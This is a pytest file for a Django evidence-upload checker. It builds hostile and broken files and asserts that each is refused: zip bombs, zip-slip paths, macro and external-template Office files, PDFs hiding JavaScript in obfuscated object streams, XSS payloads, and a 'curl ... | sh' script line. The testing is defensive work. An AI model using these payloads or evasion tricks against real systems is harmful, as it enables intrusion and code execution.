"""The evidence upload gate: a corpus of hostile and broken files, each built here as bytes,
must be refused with a message that names the file and says what is wrong; real documents
made by the libraries people's own tools use must pass. The virus scan is tested against a
small clamd-speaking server on a real socket."""

from __future__ import annotations

import functools
import hashlib
import io
import logging
import socket
import socketserver
import struct
import threading
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from foundation.uploads import (
    CheckedUpload,
    UploadRejected,
    check_upload,
    clean_display_name,
    safe_download_name,
    scan_upload,
)

# --- builders -------------------------------------------------------------------------


def pdf_bytes(*objects: bytes, catalog_extra: bytes = b"", trailer_extra: bytes = b"") -> bytes:
    """A small, well-formed PDF (real xref table) with extra objects numbered from 4."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        trailer_extra,
        xref_at,
    )
    return bytes(out)


def object_stream(hidden: bytes, type_name: bytes = b"/ObjStm") -> bytes:
    """A compressed object stream holding object 5 (PDF 1.5+ hides dictionaries in these)."""
    header = b"5 0 "
    payload = zlib.compress(header + hidden)
    return (
        b"<< /Type "
        + type_name
        + b" /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(payload))
        + payload
        + b"\nendstream"
    )


def split_object_stream(hidden: bytes) -> bytes:
    """An object stream whose zlib data holds the word "endstream" (in a stored block) before
    the compressed action: a scanner that stops at the first "endstream" never sees it."""
    decoy = b"5 0 (endstream) "
    stored = b"\x00" + struct.pack("<HH", len(decoy), len(decoy) ^ 0xFFFF) + decoy  # not final
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = deflater.compress(hidden) + deflater.flush()
    payload = b"\x78\x01" + stored + body + struct.pack(">I", zlib.adler32(decoy + hidden))
    assert zlib.decompress(payload) == decoy + hidden and hidden not in payload
    return (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(payload)
        + payload
        + b"\nendstream"
    )


@functools.cache
def weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(
        string="<h1>Minutes of the Safeguarding Children Executive Group</h1>"
        '<p>See <a href="https://www.gov.uk/government/organisations/ofsted">Ofsted</a>.</p>'
    ).write_pdf()


@functools.cache
def docx_bytes() -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("Audit of 50 cases", level=1)
    document.add_paragraph("Supervision recorded in 46 of 50 cases (92%).")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_with_hyperlink() -> bytes:
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE

    document = docx.Document()
    document.add_paragraph("Link to the published letter.")
    document.part.relate_to(
        "https://reports.ofsted.gov.uk/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True
    )
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@functools.cache
def xlsx_bytes() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Quarter", "Timeliness %"])
    sheet.append(["Q1", 71.5])
    sheet.append(["Q2", 78.0])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@functools.cache
def image_bytes(fmt: str, size=(40, 30)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (29, 112, 184)).save(out, format=fmt)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_pixel_bomb() -> bytes:
    """A tiny PNG whose header claims 60,000 × 60,000 pixels."""
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def rezip(
    data: bytes, add: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None
) -> bytes:
    """Copy a zip container, replacing or adding parts."""
    add, replace = add or {}, replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, body in add.items():
            target.writestr(name, body)
    return out.getvalue()


def zip_of(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


@functools.cache
def zip_bomb_docx(megabytes: int = 200, level: int = 1) -> bytes:
    """A real zip whose document part inflates to ``megabytes`` of zeros, written in chunks
    (200 MB is under 1 MB on disk; level 1 keeps building it under a second)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        megabyte = b"\x00" * (1024 * 1024)
        with archive.open("word/document.xml", "w") as part:
            for _ in range(megabytes):
                part.write(megabyte)
    return out.getvalue()


@functools.cache
def zip_with_too_many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        for number in range(10_001):
            archive.writestr(f"word/p{number}.xml", b"")
    return out.getvalue()


def odt_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr(
            "content.xml",
            b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
            b'opendocument:xmlns:office:1.0"><office:body><office:text/></office:body>'
            b"</office:document-content>",
            zipfile.ZIP_DEFLATED,
        )
        archive.writestr(
            "META-INF/manifest.xml",
            b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
            b'opendocument:xmlns:manifest:1.0"/>',
            zipfile.ZIP_DEFLATED,
        )
        for name, body in (extra or {}).items():
            archive.writestr(name, body)
    return out.getvalue()


def ole_bytes(*stream_names: str) -> bytes:
    """An OLE2 compound file's signature and a directory naming the given streams."""
    directory = b"".join(
        ((name + "\x00").encode("utf-16-le")).ljust(64, b"\x00") + b"\x00" * 64
        for name in stream_names
    )
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + directory + b"\x00" * 512


def windows_exe() -> bytes:
    stub = bytearray(b"MZ" + b"\x90\x00" * 29)
    stub += b"\x00" * (0x3C - len(stub)) + struct.pack("<I", 0x80)
    stub += b"This program cannot be run in DOS mode.\r\r\n$"
    stub += b"\x00" * (0x80 - len(stub)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 300
    return bytes(stub)


def elf_binary() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 200


EXTERNAL_TEMPLATE_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://attacker.example/template.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
SCRIPT_HTML = b"<!DOCTYPE html><html><body><script>fetch('/evidence/').then(r=>r.text())</script></body></html>"
SCRIPT_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)
JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\('hi'\\)) >>"


def upload(
    name: str, content: bytes, content_type: str = "application/octet-stream"
) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- the hostile and broken corpus ----------------------------------------------------

# (uploaded name, content builder, rule that must refuse it, words the message must contain,
#  the name the message must show when it differs from the uploaded one)
HOSTILE = [
    ("report.pdf", lambda: image_bytes("PNG"), "mismatch", "not a real PDF", None),
    ("photo.png", lambda: image_bytes("JPEG"), "mismatch", "not a real PNG image", None),
    ("minutes.docx", xlsx_bytes, "mismatch", "Excel workbook", None),
    ("invoice.pdf.exe", pdf_bytes, "program", "program or script", None),
    ("report.exe.", pdf_bytes, "program", "program or script", "report.exe"),
    ("invoice\u202efdp.exe", pdf_bytes, "program", "program or script", "invoicefdp.exe"),
    ("shell.php.pdf", pdf_bytes, "name", "hidden extension (.php)", None),
    ("minutes.html.pdf", pdf_bytes, "name", "hidden extension (.html)", None),
    ("audit.exe.docx", docx_bytes, "name", "hidden extension (.exe)", None),
    ("empty.pdf", lambda: b"", "empty", "is empty", None),
    ("disk.iso", lambda: b"CD001" * 100, "type", "not accepted", None),
    ("../../etc/passwd", lambda: b"root:x:0:0\n", "type", "no file extension", "passwd"),
    ("budget.docm", docx_bytes, "macros", "macro-enabled", None),
    ("zipbomb.docx", zip_bomb_docx, "archive", "zip bomb", None),
    # Only 20 MB inflated, but from about 20 KB: the ratio gives it away.
    ("dense.docx", lambda: zip_bomb_docx(20, 9), "archive", "zip bomb", None),
    ("manyparts.docx", zip_with_too_many_entries, "archive", "zip bomb", None),
    (
        "slip.docx",
        lambda: rezip(docx_bytes(), add={"../../outside.xml": b"<x/>"}),
        "archive",
        "unsafe path",
        None,
    ),
    ("page.pdf", lambda: SCRIPT_HTML, "script", "web page (HTML)", None),
    ("data.csv", lambda: SCRIPT_HTML, "script", "web page (HTML)", None),
    (
        "extract.csv",
        lambda: b'name,notes\n"Case 1","<img src=x onerror=alert(1)>"\n',
        "script",
        "markup or script",
        None,
    ),
    (
        "links.txt",
        lambda: b"Click javascript:alert(1) to continue\n",
        "script",
        "markup or script",
        None,
    ),
    ("diagram.svg", lambda: SCRIPT_SVG, "script", "SVG", None),
    ("diagram.png", lambda: SCRIPT_SVG, "script", "an SVG image", None),
    ("statement.pdf", windows_exe, "program", "Windows program", None),
    ("plan.docx", elf_binary, "program", "Linux program", None),
    (
        "notes.txt",
        lambda: b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
        "program",
        "a script",
        None,
    ),
    (
        "macros.docx",
        lambda: rezip(
            docx_bytes(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60}
        ),
        "macros",
        "contains macros",
        None,
    ),
    (
        "template.docx",
        lambda: rezip(docx_bytes(), add={"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE_RELS}),
        "active_content",
        "outside content",
        None,
    ),
    (
        "payload.docx",
        lambda: rezip(docx_bytes(), add={"word/media/update.exe": windows_exe()}),
        "program",
        "hidden inside it",
        None,
    ),
    (
        "macros.odt",
        lambda: odt_bytes({"Basic/Standard/Module1.xml": b"<m/>"}),
        "macros",
        "contains macros",
        None,
    ),
    (
        "alert.pdf",
        lambda: pdf_bytes(JS_ACTION, catalog_extra=b"/OpenAction 4 0 R"),
        "active_content",
        "JavaScript",
        None,
    ),
    (
        "escaped.pdf",
        lambda: pdf_bytes(b"<< /S /J#61vaScript /JS (x) >>", catalog_extra=b"/OpenAction 4 0 R"),
        "active_content",
        "JavaScript",
        None,
    ),
    (
        "objstm.pdf",
        lambda: pdf_bytes(object_stream(JS_ACTION), catalog_extra=b"/OpenAction 5 0 R"),
        "active_content",
        "JavaScript",
        None,
    ),
    (
        "objstm-escaped.pdf",
        lambda: pdf_bytes(
            object_stream(JS_ACTION, b"/Obj#53tm"), catalog_extra=b"/OpenAction 5 0 R"
        ),
        "active_content",
        "JavaScript",
        None,
    ),
    (
        "objstm-split.pdf",
        lambda: pdf_bytes(split_object_stream(JS_ACTION), catalog_extra=b"/OpenAction 5 0 R"),
        "active_content",
        "JavaScript",
        None,
    ),
    (
        "objstm-hex.pdf",
        lambda: pdf_bytes(
            b"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length 4 >>"
            b"\nstream\n" + zlib.compress(JS_ACTION).hex().encode() + b">\nendstream"
        ),
        "damaged",
        "unusual way",
        None,
    ),
    (
        "encrypted-objstm.pdf",
        lambda: pdf_bytes(object_stream(b"<< /A 1 >>"), trailer_extra=b"/Encrypt 6 0 R"),
        "encrypted",
        "password-protected",
        None,
    ),
    (
        "launch.pdf",
        lambda: pdf_bytes(b"<< /S /Launch /F (cmd.exe) >>", catalog_extra=b"/OpenAction 4 0 R"),
        "active_content",
        "launches programs",
        None,
    ),
    (
        "attached.pdf",
        lambda: pdf_bytes(b"<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream"),
        "active_content",
        "embedded files",
        None,
    ),
    ("truncated.pdf", lambda: pdf_bytes()[:-40], "damaged", "damaged or incomplete", None),
    (
        "locked.xlsx",
        lambda: ole_bytes("Root Entry", "EncryptionInfo", "EncryptedPackage"),
        "encrypted",
        "password-protected",
        None,
    ),
    (
        "setup.doc",
        lambda: ole_bytes("Root Entry", "\x05SummaryInformation"),
        "mismatch",
        "not a real Word 97-2003",
        None,
    ),
    (
        "legacy.xls",
        lambda: ole_bytes("Root Entry", "Workbook", "_VBA_PROJECT_CUR"),
        "macros",
        "contains macros",
        None,
    ),
    ("counts.csv", lambda: b"team,count\nMASH,\x0012\n", "mismatch", "binary data", None),
    ("utf16.txt", lambda: "Minutes".encode("utf-16"), "mismatch", "binary data", None),
    (
        "garbled.csv",
        lambda: b"team,count\n\x81\x8d\x8f\x90\x9d,1\n",
        "mismatch",
        "not readable text",
        None,
    ),
    (
        "object.rtf",
        lambda: rb"{\rtf1{\object\objemb{\*\objdata 0105000002000000}}}",
        "active_content",
        "embedded objects",
        None,
    ),
    ("huge.png", png_pixel_bomb, "archive", "far more pixels", None),
]


@pytest.mark.parametrize(
    ("name", "build", "code", "phrase", "shown_as"),
    HOSTILE,
    ids=[case[0].encode("ascii", "backslashreplace").decode() for case in HOSTILE],
)
def test_hostile_upload_is_refused_with_a_reason(name, build, code, phrase, shown_as):
    with pytest.raises(UploadRejected) as refused:
        check_upload(upload(name, build(), content_type="application/pdf"))

    assert refused.value.code == code
    assert f"“{shown_as or name}”" in refused.value.message
    assert phrase in refused.value.message


def test_the_corpus_is_big_enough():
    assert len(HOSTILE) >= 20


def test_oversized_upload_is_refused_against_the_setting(settings):
    settings.EVIDENCE_MAX_BYTES = 1000
    data = pdf_bytes(b"<< /Filler (" + b"x" * 2000 + b") >>")

    with pytest.raises(UploadRejected) as refused:
        check_upload(upload("big.pdf", data))

    assert refused.value.code == "too_large"
    assert "“big.pdf” is larger than" in refused.value.message


def test_oversized_upload_is_refused_against_max_bytes():
    with pytest.raises(UploadRejected) as refused:
        check_upload(upload("big.pdf", pdf_bytes()), max_bytes=100)

    assert refused.value.code == "too_large"


class EndlessUpload:
    """An upload that does not say its size and never ends: reading must stop at the limit."""

    name = "endless.pdf"
    size = None

    def __init__(self):
        self.bytes_read = 0

    def read(self, n=-1):
        chunk = b"%PDF-1.7\n" + b"0" * 65_527
        self.bytes_read += len(chunk)
        return chunk


def test_size_is_counted_while_reading_not_taken_on_trust():
    endless = EndlessUpload()

    with pytest.raises(UploadRejected) as refused:
        check_upload(endless, max_bytes=1024 * 1024)

    assert refused.value.code == "too_large"
    assert endless.bytes_read <= 1024 * 1024 + 65_536


def test_refusing_the_corpus_stores_nothing_and_queries_nothing(settings, tmp_path):
    # No db fixture: pytest-django makes any query here an error, so none can happen.
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path},
        },
    }
    for name, build, *_ in HOSTILE:
        with pytest.raises(UploadRejected):
            check_upload(upload(name, build()))

    assert list(tmp_path.iterdir()) == []


# --- real documents pass ---------------------------------------------------------------

POSITIVE = [
    ("minimal.pdf", pdf_bytes, "application/pdf"),
    ("committee-paper.pdf", weasyprint_pdf, "application/pdf"),
    (
        "audit.docx",
        docx_bytes,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    (
        "letter-links.docx",
        docx_with_hyperlink,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    (
        "timeliness.xlsx",
        xlsx_bytes,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    ("notes.odt", odt_bytes, "application/vnd.oasis.opendocument.text"),
    (
        "old-minutes.doc",
        lambda: ole_bytes("Root Entry", "WordDocument", "1Table"),
        "application/msword",
    ),
    ("chart.png", lambda: image_bytes("PNG"), "image/png"),
    ("photo.jpg", lambda: image_bytes("JPEG"), "image/jpeg"),
    ("photo.JPEG", lambda: image_bytes("JPEG"), "image/jpeg"),
    ("chart.gif", lambda: image_bytes("GIF"), "image/gif"),
    ("chart.webp", lambda: image_bytes("WEBP"), "image/webp"),
    ("plain.rtf", lambda: rb"{\rtf1\ansi Audit of 50 cases.\par}", "application/rtf"),
    (
        "extract.csv",
        lambda: "team,timeliness\nMASH,92%\nÉquipe Sud,–\n".encode(),
        "text/csv; charset=utf-8",
    ),
    (
        "excel-export.csv",
        lambda: "team,cost\nMASH,£1,200\n".encode("cp1252"),
        "text/csv; charset=windows-1252",
    ),
    (
        "minutes.txt",
        lambda: "\ufeffMinutes: <50% within 28 days; a < b > c\n".encode(),
        "text/plain; charset=utf-8",
    ),
]


@pytest.mark.parametrize(
    ("name", "build", "content_type"), POSITIVE, ids=[case[0] for case in POSITIVE]
)
def test_real_document_is_accepted(name, build, content_type):
    data = build()

    checked = check_upload(upload(name, data, content_type="application/x-msdownload"))

    assert isinstance(checked, CheckedUpload)
    assert checked.display_name == name
    assert checked.extension == name.rsplit(".", 1)[1].lower()
    assert checked.content_type == content_type
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.data == data


SAMPLES = Path(__file__).parent / "data" / "samples"


@pytest.mark.parametrize(
    "path", sorted(SAMPLES.glob("*.*")) if SAMPLES.is_dir() else [], ids=lambda p: p.name
)
def test_real_council_plans_are_accepted(path):
    # The councils' own spreadsheets, Word tables and CSV exports: no false alarms on them.
    checked = check_upload(upload(path.name, path.read_bytes()))

    assert checked.display_name == path.name


def test_path_in_the_name_is_dropped_and_the_file_still_checked():
    checked = check_upload(upload("../../etc/passwd.pdf", pdf_bytes()))

    assert checked.display_name == "passwd.pdf"
    with pytest.raises(UploadRejected) as refused:
        check_upload(upload("..\\..\\windows\\passwd.pdf", b"root:x:0:0:root:/root:/bin/bash\n"))
    assert "“passwd.pdf” is not a real PDF" in refused.value.message


def test_control_characters_are_cleaned_from_the_name():
    checked = check_upload(upload("Audit\x00 of\x1b[31m cases\r\n.pdf", pdf_bytes()))

    assert checked.display_name == "Audit of[31m cases.pdf"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\jo\\Desktop\\Audit.xlsx", "Audit.xlsx"),
        ("", "evidence"),
        (None, "evidence"),
        ("..", "evidence"),
        (".pdf", "evidence.pdf"),
        ("  Minutes   March.pdf  ", "Minutes March.pdf"),
        ('What? "Now" <b>.pdf', "What_ _Now_ _b_.pdf"),
        ("CON.txt", "_CON.txt"),
        ("a" * 300 + ".docx", "a" * 145 + ".docx"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
    ],
)
def test_display_name(raw, clean):
    assert clean_display_name(raw) == clean
    assert len(clean_display_name(raw)) <= 150


def test_safe_download_name_has_an_ascii_fallback_and_the_utf8_name():
    header = safe_download_name("Équipe Sud — audit “final”.pdf")

    assert header == (
        'attachment; filename="Equipe Sud  audit final.pdf"; '
        "filename*=UTF-8''%C3%89quipe%20Sud%20%E2%80%94%20audit%20%E2%80%9Cfinal%E2%80%9D.pdf"
    )


def test_safe_download_name_cannot_break_the_header():
    header = safe_download_name('../x";\r\nSet-Cookie: a=b.pdf')

    assert "\r" not in header and "\n" not in header
    assert header.startswith('attachment; filename="x_')
    assert header.count('"') == 2
    assert safe_download_name("会议纪要.pdf").startswith('attachment; filename="evidence.pdf"; ')


# --- virus scan against a clamd-speaking peer -----------------------------------------

FAKE_SIGNATURE_TRIGGER = (
    b"FAKE-CLAMD-TEST-TRIGGER"  # not the EICAR string, so no scanner flags this file
)


class FakeClamd(socketserver.BaseRequestHandler):
    """Speaks clamd's INSTREAM protocol: reads the framed chunks and answers like clamd."""

    def handle(self):
        stream = self.request.makefile("rb")
        command = b""
        while not command.endswith(b"\x00"):
            byte = stream.read(1)
            if not byte:
                return
            command += byte
        assert command == b"zINSTREAM\x00"
        received, chunks = bytearray(), 0
        while True:
            (length,) = struct.unpack("!I", stream.read(4))
            if length == 0:
                break
            received += stream.read(length)
            chunks += 1
        self.server.scans.append((bytes(received), chunks))
        if self.server.reply is not None:
            reply = self.server.reply
        elif FAKE_SIGNATURE_TRIGGER in received:
            reply = b"stream: Eicar-Test-Signature FOUND"
        else:
            reply = b"stream: OK"
        self.request.sendall(reply + b"\x00")


@pytest.fixture
def clamd():
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), FakeClamd)
    server.daemon_threads = True
    server.scans, server.reply = [], None
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def unix_clamd(tmp_path):
    path = tmp_path / "clamd.ctl"
    server = socketserver.ThreadingUnixStreamServer(str(path), FakeClamd)
    server.daemon_threads = True
    server.scans, server.reply = [], None
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    yield server, path
    server.shutdown()
    server.server_close()


def checked_text(body: bytes, name: str = "minutes.txt") -> CheckedUpload:
    return check_upload(upload(name, body))


def test_clean_file_passes_the_scanner(settings, clamd):
    host, port = clamd.server_address
    settings.CLAMAV_ADDRESS = f"{host}:{port}"
    body = b"Minutes of the meeting.\n" * 10_000  # several INSTREAM chunks
    checked = checked_text(body)

    scan_upload(checked)

    assert clamd.scans == [(body, 4)]


def test_infected_file_is_refused_naming_the_signature(settings, clamd):
    host, port = clamd.server_address
    settings.CLAMAV_ADDRESS = f"{host}:{port}"
    checked = checked_text(b"Minutes\n" + FAKE_SIGNATURE_TRIGGER + b"\n", "agenda.txt")

    with pytest.raises(UploadRejected) as refused:
        scan_upload(checked)

    assert refused.value.code == "virus"
    assert refused.value.message == (
        "“agenda.txt” was flagged by the virus scanner (Eicar-Test-Signature) and was not saved."
    )


def test_scanner_error_reply_fails_closed(settings, clamd):
    host, port = clamd.server_address
    settings.CLAMAV_ADDRESS = f"{host}:{port}"
    clamd.reply = b"INSTREAM size limit exceeded. ERROR"

    with pytest.raises(UploadRejected) as refused:
        scan_upload(checked_text(b"Minutes\n"))

    assert refused.value.code == "scan_failed"
    assert "could not be scanned" in refused.value.message


def test_unreachable_scanner_fails_closed(settings):
    with socket.socket() as probe:  # a port that was free a moment ago and has no listener
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    settings.CLAMAV_ADDRESS = f"127.0.0.1:{port}"
    settings.CLAMAV_TIMEOUT = 2

    with pytest.raises(UploadRejected) as refused:
        scan_upload(checked_text(b"Minutes\n"))

    assert refused.value.code == "scan_failed"
    assert refused.value.message == (
        "“minutes.txt” could not be scanned for viruses just now, so it was not saved; try again later."
    )


def test_scanner_on_a_unix_socket(settings, unix_clamd):
    server, path = unix_clamd
    settings.CLAMAV_ADDRESS = f"unix://{path}"
    checked = checked_text(b"Minutes\n")

    scan_upload(checked)

    assert server.scans == [(b"Minutes\n", 1)]


def test_missing_unix_socket_fails_closed(settings, tmp_path):
    settings.CLAMAV_ADDRESS = f"unix://{tmp_path / 'absent.ctl'}"

    with pytest.raises(UploadRejected) as refused:
        scan_upload(checked_text(b"Minutes\n"))

    assert refused.value.code == "scan_failed"


def test_without_a_scanner_the_upload_is_accepted_and_the_skip_logged(settings, caplog):
    settings.CLAMAV_ADDRESS = ""
    checked = checked_text(b"Minutes\n")

    with caplog.at_level(logging.WARNING, logger="foundation.uploads"):
        scan_upload(checked)

    assert [(r.name, r.levelno, r.getMessage()) for r in caplog.records] == [
        (
            "foundation.uploads",
            logging.WARNING,
            f"virus scan skipped for {checked.sha256}: no scanner configured",
        )
    ]
